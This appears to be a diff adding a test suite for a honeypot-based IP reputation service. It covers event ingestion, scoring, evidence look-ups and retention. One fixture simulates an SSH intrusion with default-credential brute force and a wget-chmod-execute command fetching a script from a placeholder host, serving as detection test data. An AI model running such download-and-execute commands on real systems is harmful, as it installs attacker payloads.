@@ -1,0 +1,314 @@
+// Sensor ingest, aggregates and evidence look-ups on every engine: SPEC §7, §3.1, §3.5, §1 (incremental reputation).
+import assert from 'node:assert/strict';
+import { after, before, describe, it } from 'node:test';
+import { DAY_MS, utcDay } from '../src/core/time.js';
+import { behaviorsFor } from '../src/services/evidence-read.js';
+import type { DbExecutor } from '../src/store/database.js';
+import { ensurePartitions } from '../src/store/partitions.js';
+import { ENGINES, skipReason } from './helpers/engines.js';
+import { bearer, createTestApp, type TestApp } from './helpers/test-app.js';
+
+const MINUTE = 60_000;
+
+/** A realistic SSH session: failed logins, a success, recon, a download-and-run, disconnect. */
+function sshSession(ip: string, session: string, start: number, sensor = 'hp-1') {
+  const base = { sensor, session, srcIp: ip, srcPort: 40000, dstPort: 22, protocol: 'ssh' };
+  let n = 0;
+  const ev = (type: string, extra: Record<string, unknown>) => ({
+    ...base,
+    id: `${session}-${n}`,
+    ts: new Date(start + n++ * 1000).toISOString(),
+    type,
+    ...extra,
+  });
+  return [
+    ev('connect', {}),
+    ...['admin', 'root', 'pi', 'ubnt', 'test'].map((username) =>
+      ev('auth', { username, password: '123456', success: false }),
+    ),
+    ev('auth', { username: 'root', password: 'root', success: true }),
+    ev('command', { command: 'uname -a' }),
+    ev('command', { command: 'cd /tmp; wget http://198.51.100.7/x.sh; chmod +x x.sh; ./x.sh' }),
+    ev('download', { url: 'http://198.51.100.7/x.sh', sha256: null }),
+    ev('disconnect', { durationMs: 12_000 }),
+  ];
+}
+
+function smtpSession(ip: string, session: string, start: number) {
+  const base = { sensor: 'hp-1', session, srcIp: ip, srcPort: 50000, dstPort: 25, protocol: 'smtp' };
+  return ['EHLO x', 'MAIL FROM:<a@example.org>', 'RCPT TO:<Victim@Example.com>', 'DATA'].map(
+    (command, i) => ({
+      ...base,
+      id: `${session}-${i}`,
+      ts: start + i * 1000,
+      type: 'command',
+      command,
+    }),
+  );
+}
+
+/** Everything the API can show about an IP, from the aggregate tables. */
+async function snapshot(db: DbExecutor, ip: string) {
+  const rep = await db
+    .selectFrom('reputations')
+    .select(['sessions', 'events', 'first_seen', 'last_seen', 'score', 'score_raw', 'max_severity'])
+    .where('ip', '=', ip)
+    .executeTakeFirst();
+  const rows = async (table: 'reputation_protocols' | 'reputation_behaviors' | 'reputation_primitives') =>
+    (await db.selectFrom(table).selectAll().where('ip', '=', ip).execute())
+      .map((r) =>
+        JSON.stringify(Object.entries(r).map(([k, v]) => [k, Number.isFinite(Number(v)) ? Number(v) : v])),
+      )
+      .sort();
+  const days = (await db.selectFrom('reputation_days').selectAll().where('ip', '=', ip).execute())
+    .filter((r) => Number(r.sessions) !== 0 || Number(r.events) !== 0 || Number(r.reports) !== 0)
+    .map((r) => `${r.day}:${Number(r.sessions)}:${Number(r.events)}`)
+    .sort();
+  const users = (
+    await db.selectFrom('sensor_usernames').selectAll().orderBy('username').orderBy('protocol').execute()
+  ).map(
+    (r) => `${r.username}:${r.protocol}:${Number(r.sessions)}:${Number(r.first_seen)}:${Number(r.last_seen)}`,
+  );
+  return {
+    rep: rep && Object.fromEntries(Object.entries(rep).map(([k, v]) => [k, Number(v)])),
+    protocols: await rows('reputation_protocols'),
+    behaviors: await rows('reputation_behaviors'),
+    primitives: await rows('reputation_primitives'),
+    days,
+    users,
+  };
+}
+
+for (const engine of ENGINES) {
+  describe(`sensor events (${engine})`, { skip: skipReason(engine) }, () => {
+    let t: TestApp;
+    let sensorKey: string;
+    let userKey: string;
+
+    before(async () => {
+      t = await createTestApp(engine);
+      sensorKey = await t.key('sensor');
+      userKey = await t.key('tier_1');
+    });
+    after(async () => t?.close());
+
+    const post = (events: unknown, key = sensorKey) =>
+      t.app.inject({ method: 'POST', url: '/v1/sensor/events', headers: bearer(key), payload: { events } });
+
+    it('refuses keys that are not sensor keys', async () => {
+      const res = await post([], userKey);
+      assert.equal(res.statusCode, 403);
+      assert.equal(res.json().code, 'forbidden');
+    });
+
+    it('keeps good events and rejects bad ones by index and reason, including age and future skew', async () => {
+      const now = t.clock.now();
+      const good = sshSession('45.83.13.10', 'val-1', now - 10 * MINUTE).slice(0, 2);
+      const res = await post([
+        good[0],
+        { ...good[0], id: 'x1', srcIp: '10.0.0.1' },
+        { ...good[0], id: 'x2', ts: now - 31 * 24 * 60 * MINUTE },
+        { ...good[0], id: 'x3', ts: now + 6 * MINUTE },
+        'not an object',
+        good[1],
+      ]);
+      assert.equal(res.statusCode, 200, res.body);
+      const body = res.json();
+      assert.equal(body.received, 6);
+      assert.equal(body.accepted, 2);
+      assert.equal(body.rejected, 4);
+      assert.deepEqual(
+        body.errors.map((e: { index: number }) => e.index),
+        [1, 2, 3, 4],
+      );
+      assert.match(body.errors[0].reason, /public/);
+      assert.match(body.errors[1].reason, /retention/);
+      assert.match(body.errors[2].reason, /future/);
+    });
+
+    it('refuses batches over 5,000 events', async () => {
+      const res = await post(Array.from({ length: 5001 }, () => ({})));
+      assert.equal(res.statusCode, 413);
+    });
+
+    it('gives the same reputation for a batch once, twice, or split and retried out of order', async () => {
+      const now = t.clock.now();
+      // Three IPs, one per delivery pattern; the same events shifted onto each IP.
+      const events = (ip: string) => [
+        ...sshSession(ip, `s-${ip}-a`, now - 2 * 24 * 60 * MINUTE),
+        ...sshSession(ip, `s-${ip}-b`, now - 30 * MINUTE),
+      ];
+      const once = events('45.83.13.21');
+      const twice = events('45.83.13.22');
+      const split = events('45.83.13.23');
+      assert.equal((await post(once)).json().accepted, once.length);
+      const first = (await post(twice)).json();
+      const second = (await post(twice)).json();
+      assert.equal(first.accepted, twice.length);
+      assert.equal(second.accepted, 0);
+      assert.equal(second.duplicates, twice.length);
+      // Split into overlapping pieces, later pieces first, each session cut in the middle.
+      const pieces = [split.slice(15), split.slice(4, 18), split.slice(0, 6), split.slice(10, 13)];
+      for (const piece of pieces) assert.equal((await post(piece)).statusCode, 200);
+
+      const a = await snapshot(t.store.db, '45.83.13.21');
+      const b = await snapshot(t.store.db, '45.83.13.22');
+      const c = await snapshot(t.store.db, '45.83.13.23');
+      const strip = (s: typeof a) => ({
+        ...s,
+        protocols: s.protocols.map((r) => r.replace(/45\.83\.13\.2\d/, 'IP')),
+        behaviors: s.behaviors.map((r) => r.replace(/45\.83\.13\.2\d/, 'IP')),
+        primitives: s.primitives.map((r) => r.replace(/45\.83\.13\.2\d/, 'IP')),
+        days: s.days,
+        users: [],
+      });
+      assert.deepEqual(strip(b), strip(a));
+      assert.deepEqual(strip(c), strip(a));
+      assert.equal(a.rep?.sessions, 2);
+      assert.equal(a.rep?.events, once.length);
+      assert.equal(a.rep?.max_severity, 4);
+      assert.ok((a.rep?.score ?? 0) >= 90, `score ${a.rep?.score}`);
+    });
+
+    it('serves sensor evidence in the check response, with protocol filter and maxAge', async () => {
+      const res = await t.app.inject({
+        method: 'GET',
+        url: '/v1/key/check/45.83.13.21',
+        headers: bearer(userKey),
+      });
+      assert.equal(res.statusCode, 200);
+      const body = res.json();
+      assert.equal(body.totalSessions, 2);
+      assert.deepEqual(body.protocols, [{ protocol: 'ssh', sessions: 2, events: 22 }]);
+      const names = body.behaviors.map((b: { name: string }) => b.name);
+      for (const name of [
+        'successful_login',
+        'malware_download',
+        'ssh_brute_force',
+        'download_and_execute',
+      ]) {
+        assert.ok(names.includes(name), `${name} in ${names}`);
+      }
+      const malware = body.behaviors.find((b: { name: string }) => b.name === 'malware_download');
+      assert.equal(malware.count, 2);
+      assert.equal(malware.severity, 'very_high');
+      assert.ok(malware.mitre.includes('T1105'));
+      assert.ok(body.primitives.some((p: { name: string }) => p.name === 'download_any'));
+      assert.ok(body.scoreBreakdown.sensor > 0);
+      const recent = (
+        await t.app.inject({
+          method: 'GET',
+          url: '/v1/key/check/45.83.13.21?maxAge=1&protocols=telnet&verbose=false',
+          headers: bearer(userKey),
+        })
+      ).json();
+      assert.equal(recent.totalSessions, 1);
+      assert.equal(recent.totalEvents, 11);
+      assert.deepEqual(recent.protocols, []);
+      assert.equal(recent.behaviors, undefined);
+    });
+
+    it('exports behaviours with kill-chain phases for the TAXII feed', async () => {
+      const behaviors = await behaviorsFor(t.store.db, '45.83.13.21');
+      const malware = behaviors.find((b) => b.name === 'malware_download');
+      assert.ok(malware);
+      assert.equal(typeof malware.killChainPhase, 'string');
+      assert.equal(malware.count, 2);
+    });
+
+    it('answers username and e-mail look-ups in epoch ms, 404 when unseen, counted as lookups', async () => {
+      const now = t.clock.now();
+      assert.equal((await post(smtpSession('45.83.13.40', 'mail-1', now - MINUTE))).json().accepted, 4);
+      const user = await t.app.inject({
+        method: 'GET',
+        url: '/v1/key/username/ubnt',
+        headers: bearer(userKey),
+      });
+      assert.equal(user.statusCode, 200);
+      const body = user.json();
+      // ubnt: once in each of the six full SSH sessions above (three IPs × two sessions).
+      assert.equal(body.username, 'ubnt');
+      assert.equal(body.totalSessions, 6);
+      assert.deepEqual(body.protocolCounts, { ssh: 6 });
+      assert.equal(typeof body.firstSeenAt, 'number');
+      assert.ok(body.lastSeenAt >= body.firstSeenAt);
+      assert.ok(Number(user.headers['x-daily-used']) >= 1);
+      const missing = await t.app.inject({
+        method: 'GET',
+        url: '/v1/key/username/nobody-tried-this',
+        headers: bearer(userKey),
+      });
+      assert.equal(missing.statusCode, 404);
+      assert.equal(missing.headers['x-daily-used'], undefined);
+      const mail = await t.app.inject({
+        method: 'GET',
+        url: '/v1/key/email/victim@example.com',
+        headers: bearer(userKey),
+      });
+      assert.equal(mail.statusCode, 200, mail.body);
+      assert.equal(mail.json().totalMessages, 1);
+      assert.equal(mail.json().firstSeenAt, now - MINUTE + 2000);
+      const noMail = await t.app.inject({
+        method: 'GET',
+        url: '/v1/key/email/x@example.net',
+        headers: bearer(userKey),
+      });
+      assert.equal(noMail.statusCode, 404);
+    });
+
+    it('serves the detection catalog publicly', async () => {
+      const res = await t.app.inject({ method: 'GET', url: '/v1/catalog' });
+      assert.equal(res.statusCode, 200);
+      const body = res.json();
+      assert.equal(body.behaviors.length, 57);
+      assert.ok(body.primitives.length > 50);
+      const behavior = body.behaviors[0];
+      for (const field of ['name', 'severity', 'description', 'mitre', 'killChainPhase'])
+        assert.ok(field in behavior);
+    });
+
+    it('counts a contributor report with a protocol under that protocol', async () => {
+      const res = await t.app.inject({
+        method: 'POST',
+        url: '/v1/key/report',
+        headers: bearer(userKey),
+        payload: { ip: '45.83.13.21', category: 'brute_force', protocol: 'telnet' },
+      });
+      assert.equal(res.statusCode, 200);
+      const body = (
+        await t.app.inject({ method: 'GET', url: '/v1/key/check/45.83.13.21', headers: bearer(userKey) })
+      ).json();
+      assert.deepEqual(
+        body.protocols.find((p: { protocol: string }) => p.protocol === 'telnet'),
+        { protocol: 'telnet', sessions: 0, events: 1 },
+      );
+      assert.ok(body.scoreBreakdown.crossSourceMultiplier > 1);
+    });
+
+    it('ages raw events out by day and purges an idle IP from every evidence table', async () => {
+      const now = t.clock.now();
+      const ip = '45.83.13.60';
+      if (engine === 'postgres') {
+        await ensurePartitions(t.store.db, 'events', 'day', utcDay(now) - 3, utcDay(now) + 1);
+      }
+      assert.equal((await post(sshSession(ip, 'old-1', now - 2 * DAY_MS))).json().accepted, 11);
+      const rows = async (table: 'events' | 'evidence_ids' | 'sensor_sessions' | 'reputation_behaviors') =>
+        Number(
+          (
+            await t.store.db
+              .selectFrom(table)
+              .select((eb) => eb.fn.countAll<number>().as('n'))
+              .where('ip', '=', ip)
+              .executeTakeFirstOrThrow()
+          ).n,
+        );
+      assert.equal(await rows('events'), 11);
+      const later = now + 40 * DAY_MS;
+      const result = await t.services.retention.run(later);
+      assert.ok((result.telemetry.events ?? 0) + result.partitionsDropped > 0, JSON.stringify(result));
+      for (const table of ['events', 'evidence_ids', 'sensor_sessions', 'reputation_behaviors'] as const) {
+        assert.equal(await rows(table), 0, table);
+      }
+    });
+  });
+}
